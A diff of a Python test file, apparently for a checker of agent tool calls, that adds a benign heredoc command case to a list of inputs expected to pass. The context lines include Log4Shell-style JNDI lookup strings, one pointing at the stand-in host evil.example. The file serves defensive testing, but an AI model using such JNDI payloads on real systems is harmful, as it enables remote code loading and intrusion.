@@ -63,6 +63,7 @@ def test_a_text_is_judged_whatever_it_means(name: str, arguments: JsonObject, ru
         ("build", {"extra_args": ["-o", "/work/out"]}),
         ("search_code", {"pattern": "${jndi:ldap"}),
         ("create_note", {"text": "${jndi:ldap://evil.example/a}"}),
+        ("run_command", {"command": "cat <<E > config.yaml\nport: 80\nhost: localhost\nE"}),
     ],
 )
 def test_honest_texts_of_the_same_kinds_pass(name: str, arguments: JsonObject) -> None:
